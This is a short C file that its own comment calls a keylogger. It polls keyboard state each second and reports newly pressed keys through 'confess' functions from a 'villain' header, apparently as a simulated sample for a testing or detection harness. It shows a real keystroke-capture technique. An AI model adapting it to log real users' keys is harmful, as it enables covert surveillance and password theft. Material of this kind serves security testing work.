// Keylogger: opens nothing, asks the kernel each tick which keys are down (as programs do with GetAsyncKeyState).
#include "lib/villain.h"

int main(void) {
    uint32_t before[4] = {0}, now[4];
    confess("keylog-poll", "stage=armed");
    for (;; sleep(1)) {
        unsigned char keys[16];
        int count = 0;
        keyboard_state(now);
        for (int key = 0; key < 128 && count < 16; key++) {
            uint32_t bit = 1u << key % 32;
            if (now[key / 32] & ~before[key / 32] & bit) keys[count++] = key;
        }
        if (count) confess_keys("keylog-poll", keys, count);
        memcpy(before, now, sizeof now);
    }
}
